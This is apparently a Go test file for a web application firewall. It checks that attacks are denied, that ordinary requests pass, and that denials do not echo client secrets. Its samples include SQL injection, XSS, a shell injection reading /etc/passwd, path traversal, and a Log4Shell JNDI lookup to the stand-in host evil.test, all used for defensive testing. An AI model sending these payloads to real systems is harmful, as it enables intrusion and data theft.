package waf

import (
	"cmp"
	"context"
	"net/http"
	"net/netip"
	"runtime"
	"strings"
	"testing"
	"time"

	yaml "github.com/oasdiff/yaml3"

	"github.com/gatehouse-sec/gatehouse/gate"
	"github.com/gatehouse-sec/gatehouse/guard/waf/seclang"
	"github.com/gatehouse-sec/gatehouse/kit/body"
	"github.com/gatehouse-sec/gatehouse/kit/canon"
	"github.com/gatehouse-sec/gatehouse/kit/openapi"
)

var tools = Tools{Rules: Load(), Now: func() time.Time { return time.Date(2026, 11, 22, 12, 0, 0, 0, time.UTC) }}

type sample struct {
	method, path string
	query        []canon.Pair
	fields       map[string]string
	media        string
	kind         body.Kind
	body         string
	parts        []body.Part
}

func (s sample) exchange() *gate.Exchange {
	fields := http.Header{"User-Agent": {"Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36"}, "Accept": {"application/json"}}
	for k, v := range s.fields {
		fields.Set(k, v)
	}
	if s.media != "" {
		fields.Set("Content-Type", s.media)
	}
	tree := &body.Tree{Kind: s.kind, Raw: []byte(s.body), Parts: s.parts}
	if s.parts == nil {
		read, refusal := body.Read(s.kind, nil, "", strings.NewReader(s.body), body.Limits{Bytes: 1 << 20, Depth: 100, Params: 200_000, Members: 200_000, Values: 200_000})
		if refusal != nil {
			panic(refusal)
		}
		tree = read
	}
	x := &gate.Exchange{
		ID: "TEST", Source: gate.Source{Client: netip.MustParseAddr("192.0.2.1")},
		Request:   &canon.Request{Method: s.method, Host: "api.test", Path: s.path, Query: s.query, Fields: fields, Major: 1, Length: int64(len(s.body) + len(s.parts))},
		Operation: &gate.Operation{Key: "op"},
	}
	x.SetBody(func(context.Context) (*body.Tree, gate.Verdict) { return tree, gate.Allow() })
	return x
}

// guard is one with time enough under the race detector too, where nothing else is said.
func guard(t testing.TB, cfg Config) *Guard {
	t.Helper()
	cfg.Budget = cmp.Or(cfg.Budget, time.Minute)
	g, err := New(cfg, &gate.API{Name: "shop", Operations: []*gate.Operation{{Key: "op"}}}, tools)
	if err != nil {
		t.Fatal(err)
	}
	return g
}

var attacks = map[string]sample{
	"sql in query":        {method: "GET", path: "/products", query: []canon.Pair{{Name: "q", Value: "1' OR '1'='1' UNION SELECT password FROM users--"}}},
	"xss in query":        {method: "GET", path: "/products", query: []canon.Pair{{Name: "q", Value: "<script>alert(document.cookie)</script>"}}},
	"shell in form":       {method: "POST", path: "/x", media: "application/x-www-form-urlencoded", kind: body.Form, body: "a=%3Bcat+%2Fetc%2Fpasswd"},
	"sql in json":         {method: "POST", path: "/x", media: "application/json", kind: body.JSON, body: `{"a":{"b":["x' UNION SELECT password FROM users--"]}}`},
	"sql in vendor json":  {method: "PATCH", path: "/x", media: "application/vnd.shop+json", kind: body.JSON, body: `{"a":"x' UNION SELECT password FROM users--"}`},
	"xss in part":         {method: "POST", path: "/x", media: "multipart/form-data; boundary=b", kind: body.Multipart, parts: []body.Part{{Name: "note", Data: []byte("<script>alert(1)</script>")}}},
	"traversal file name": {method: "POST", path: "/x", media: "multipart/form-data; boundary=b", kind: body.Multipart, parts: []body.Part{{Name: "f", FileName: "../../../etc/passwd", Data: []byte("x")}}},
	"sql in text":         {method: "POST", path: "/x", media: "text/plain", kind: body.Text, body: "x' UNION SELECT password FROM users--"},
	"log4j in field":      {method: "GET", path: "/x", fields: map[string]string{"X-Request-Id": "${jndi:ldap://evil.test/a}"}},
	"traversal in query":  {method: "GET", path: "/x", query: []canon.Pair{{Name: "file", Value: "../../../../etc/passwd"}}},
	"scanner":             {method: "GET", path: "/x", fields: map[string]string{"User-Agent": "sqlmap/1.8"}},
}

// Without a contract the client chooses the media type, and no template says where the values are: there is no place in
// which an attack is not looked for.
func TestWithoutAContractEverythingIsInspected(t *testing.T) {
	const sql = "x' UNION SELECT password FROM users--"
	escaped := `{"q":"x\u0027\u0020UNION\u0020SELECT\u0020password\u0020FROM\u0020users--"}`
	g := guard(t, Config{})
	for name, s := range map[string]sample{
		"called bytes":         {method: "POST", path: "/x", media: "application/octet-stream", kind: body.Opaque, body: `{"q":"` + sql + `"}`},
		"called a picture":     {method: "POST", path: "/x", media: "image/png", kind: body.Opaque, body: "q=" + sql},
		"rare name of json":    {method: "POST", path: "/x", media: "application/a_b+json", kind: body.JSON, body: escaped},
		"rare name of xml":     {method: "POST", path: "/x", media: "image/svg+xml", kind: body.XML, body: "<a><b>x&#39; UNION SELECT password FROM users--</b></a>"},
		"attribute":            {method: "POST", path: "/x", media: "text/xml", kind: body.XML, body: `<a b="` + sql + `"/>`},
		"attribute, forgiven":  {method: "POST", path: "/x", media: "text/xml", kind: body.XML, body: `<a>&nope;<b c="` + sql + `"/></a>`},
		"attribute, no quotes": {method: "POST", path: "/x", media: "text/xml", kind: body.XML, body: "<a><b c=1 <d e=\"" + sql + "\"/></a>"},
		"segment of the path":  {method: "GET", path: "/users/x"},
	} {
		x := s.exchange()
		x.Request.Segments = []string{"users", "x"}
		if name == "segment of the path" {
			x.Request.Segments[1] = sql
		}
		v := g.Check(t.Context(), x)
		if v.Allowed() || v.Code != gate.Attack {
			t.Errorf("%s: %+v", name, v)
		}
		if strings.Contains(v.Detail+v.Shown+v.Fix, "password") {
			t.Errorf("%s: the event repeats the body: %+v", name, v)
		}
	}
}

// A field that the contract declares as a parameter is inspected as one.
func TestDeclaredFieldsAreInspected(t *testing.T) {
	g := guard(t, Config{})
	s := sample{method: "GET", path: "/x", fields: map[string]string{"X-Filter": "x' UNION SELECT password FROM users--"}}
	x := s.exchange()
	x.Operation.Contract = &openapi.Operation{Requests: openapi.Requests{Parameters: []*openapi.Parameter{{In: "header", Name: "x-filter"}}}}
	if v := g.Check(t.Context(), x); v.Allowed() {
		t.Error("allowed")
	}
	if !strings.Contains(g.Check(t.Context(), x).Fix, "x-filter") {
		t.Error("the exception does not name the field")
	}
}

// What the engine drops because it is too much was not inspected, so it does not pass: limits may be set that admit it.
func TestMoreThanTheEngineTakesIsDenied(t *testing.T) {
	g := guard(t, Config{})
	s := sample{method: "POST", path: "/x", media: "application/json", kind: body.JSON, body: "[" + strings.Repeat("1,", 100_001) + `"x"]`}
	if v := g.Check(t.Context(), s.exchange()); v.Code != gate.TooLarge || v.Reason != ReasonEngine {
		t.Errorf("%+v", v)
	}
}

// A name that a client makes up may be a secret, and a text read as a form is all name: neither stands in the event (K2).
func TestADenialRepeatsNoNamesThatAreContent(t *testing.T) {
	g := guard(t, Config{})
	for name, s := range map[string]sample{
		"query": {method: "GET", path: "/x", query: []canon.Pair{{Name: "x' UNION SELECT canary FROM users--", Value: "1"}}},
		"json":  {method: "POST", path: "/x", media: "application/json", kind: body.JSON, body: `{"x' UNION SELECT canary FROM users--":1}`},
		"text":  {method: "POST", path: "/x", media: "text/plain", kind: body.Text, body: "canary' UNION SELECT password FROM users--"},
	} {
		v := g.Check(t.Context(), s.exchange())
		if v.Allowed() {
			t.Errorf("%s: allowed", name)
		}
		if strings.Contains(v.Detail+v.Shown+v.Fix, "canary") {
			t.Errorf("%s: %+v", name, v)
		}
	}
}

func TestAttacksAreDenied(t *testing.T) {
	g := guard(t, Config{})
	for name, s := range attacks {
		v := g.Check(t.Context(), s.exchange())
		if v.Allowed() || v.Code != gate.Attack || !strings.HasPrefix(v.Rule, "crs 9") || v.Detail == "" || v.Fix == "" {
			t.Errorf("%s: %+v", name, v)
		}
		if strings.Contains(v.Shown, "UNION SELECT password FROM") {
			t.Errorf("%s: the event repeats the bytes unmasked: %s", name, v.Shown)
		}
	}
}

func TestPlainRequestsPass(t *testing.T) {
	g := guard(t, Config{})
	for name, s := range map[string]sample{
		"get":                       {method: "GET", path: "/products/7"},
		"delete":                    {method: "DELETE", path: "/products/7"},
		"json":                      {method: "PUT", path: "/x", media: "application/json", kind: body.JSON, body: `{"name":"Ann O'Neil","qty":3,"note":"please ring twice"}`},
		"gzip, which was taken off": {method: "POST", path: "/x", fields: map[string]string{"Content-Encoding": "gzip"}, media: "application/json", kind: body.JSON, body: `{"a":1}`},
		"vendor":                    {method: "POST", path: "/x", media: "application/vnd.api+json", kind: body.JSON, body: `{"a":1}`},
		"form":                      {method: "POST", path: "/x", media: "application/x-www-form-urlencoded", kind: body.Form, body: "name=Ann&city=Oslo"},
		"multipart":                 {method: "POST", path: "/x", media: "multipart/form-data; boundary=b", kind: body.Multipart, parts: []body.Part{{Name: "f", FileName: "photo.jpg", Data: []byte{0xff, 0xd8}}}},
		"search":                    {method: "GET", path: "/products", query: []canon.Pair{{Name: "q", Value: "red shoes, size 42"}}},
	} {
		if v := g.Check(t.Context(), s.exchange()); !v.Allowed() {
			t.Errorf("%s: %+v", name, v)
		}
	}
}

// The exception that a denial proposes admits just that request, and nothing else.
func TestTheProposedExceptionIsNarrow(t *testing.T) {
	s := sample{method: "GET", path: "/products", query: []canon.Pair{{Name: "q", Value: "<script>alert(1)</script>"}}}
	var except []seclang.Exception
	for range 30 {
		v := guard(t, Config{Except: except}).Check(t.Context(), s.exchange())
		if v.Allowed() {
			break
		}
		var proposed struct{ Except []seclang.Exception }
		if err := yaml.Unmarshal([]byte(v.Fix), &proposed); err != nil || len(proposed.Except) != 1 {
			t.Fatal(v.Fix, err)
		}
		except = append(except, proposed.Except...)
	}
	g := guard(t, Config{Except: except})
	if v := g.Check(t.Context(), s.exchange()); !v.Allowed() {
		t.Fatalf("still denied after %d exceptions: %+v", len(except), v)
	}
	s.query[0].Name = "other"
	if v := g.Check(t.Context(), s.exchange()); v.Allowed() {
		t.Fatal("the exceptions for q hold for another argument too")
	}
}

func TestWrongUses(t *testing.T) {
	for _, cfg := range []Config{
		{Paranoia: 5}, {Paranoia: -1}, {Threshold: -1}, {Except: []seclang.Exception{{Rule: 42}}}, {Except: []seclang.Exception{{Rule: 942100, Operation: "nope"}}}, {Except: []seclang.Exception{{}}},
	} {
		if _, err := New(cfg, &gate.API{Name: "shop"}, tools); err == nil {
			t.Errorf("%+v was taken", cfg)
		}
	}
}

func BenchmarkPlainGet(b *testing.B) {
	g := guard(b, Config{})
	b.ReportAllocs()
	for b.Loop() {
		if v := g.Check(b.Context(), sample{method: "GET", path: "/products/7"}.exchange()); !v.Allowed() {
			b.Fatal(v)
		}
	}
}

// TestGoodRequestsScoreNothing: a threshold of 1 denies whatever any rule thinks of; what the contract admits and is plain
// must score nothing, or scores of harmless things add up to a denial. Rule 920180 is the one that saw no Content-Length.
func TestGoodRequestsScoreNothing(t *testing.T) {
	g := guard(t, Config{Threshold: 1})
	for name, s := range map[string]sample{
		"get":             {method: "GET", path: "/orders/7", query: []canon.Pair{{Name: "limit", Value: "20"}}},
		"json":            {method: "POST", path: "/orders", media: "application/json", kind: body.JSON, body: `{"item":"tea","quantity":2,"note":"ring twice"}`},
		"post of nothing": {method: "POST", path: "/orders/7/cancel"},
		"delete":          {method: "DELETE", path: "/orders/7"},
		"form":            {method: "POST", path: "/x", media: "application/x-www-form-urlencoded", kind: body.Form, body: "name=ann&city=Bern"},
		"patch":           {method: "PATCH", path: "/x", media: "application/merge-patch+json", kind: body.JSON, body: `{"city":"Bern"}`},
	} {
		if v := g.Check(t.Context(), s.exchange()); !v.Allowed() {
			t.Errorf("%s: %s %s", name, v.Rule, v.Detail)
		}
	}
}

// What a client made up does not stand in the event because a rule's message repeats it, or because a name looks plain.
func TestADenialRepeatsNoMacrosAndNoTokens(t *testing.T) {
	g := guard(t, Config{Paranoia: 3})
	twice := sample{method: "GET", path: "/x", query: []canon.Pair{{Name: "john@private.example", Value: "1"}, {Name: "john@private.example", Value: "2"}}}
	token := sample{method: "GET", path: "/x", query: []canon.Pair{{Name: "q7Zk3vX9bT2mN8cR4wL6yH1sD5fG0jPaUe", Value: "x' UNION SELECT a FROM users--"}}}
	for _, s := range []sample{twice, token} {
		v := g.Check(t.Context(), s.exchange())
		if said := v.Detail + v.Fix + v.Shown; v.Allowed() || strings.Contains(said, "private.example") || strings.Contains(said, "q7Zk3vX9") {
			t.Errorf("%+v", v)
		}
	}
}

// Guards of several levels share rooms, and what they found for one is not used for another.
func TestSeveralLevelsAtOnce(t *testing.T) {
	s := sample{method: "GET", path: "/orders/7", query: []canon.Pair{{Name: "limit", Value: "20"}}}
	for range 6 {
		for level := 1; level <= 4; level++ {
			g := guard(t, Config{Paranoia: level})
			<-g.derived().done
			g.Check(t.Context(), s.exchange())
			if v := g.Check(t.Context(), attacks["sql in query"].exchange()); v.Allowed() {
				t.Fatal(level, v)
			}
		}
	}
}

// G21: the time of the prefilter counts too.
func TestALargeTextHasNoMoreTimeThanIsGiven(t *testing.T) {
	g := guard(t, Config{Budget: 20 * time.Millisecond})
	<-g.derived().done
	s := sample{method: "POST", path: "/x", media: "text/plain", kind: body.Text, body: strings.Repeat("java.lang. php : // ${ x } <a href = on base64 eval system exec . .. / etc passwd ", 11_000)}
	runtime.LockOSThread() // it is this thread's time that is asked for
	defer runtime.UnlockOSThread()
	for range 3 {
		began := threadTime()
		v := g.Check(t.Context(), s.exchange())
		if took := threadTime() - began; v.Code != gate.TooLarge || took > time.Second {
			t.Errorf("%v: %+v", took, v)
		} else {
			t.Log(took)
		}
	}
}
